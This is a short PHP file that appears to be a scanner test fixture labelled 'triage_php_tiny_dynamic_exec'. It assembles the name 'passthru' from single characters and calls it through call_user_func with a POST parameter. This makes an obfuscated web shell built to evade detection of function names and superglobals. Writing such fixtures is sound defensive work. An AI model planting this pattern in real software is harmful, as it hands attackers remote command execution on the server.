<?php
// triage-expect: triage_php_tiny_dynamic_exec
// Input through filter_input, the sink through a callback: no superglobal, no sink name.
$f = implode('', array('p', 'a', 's', 's', 't', 'h', 'r', 'u'));
$v = filter_input(INPUT_POST, 'q');
call_user_func($f, $v);
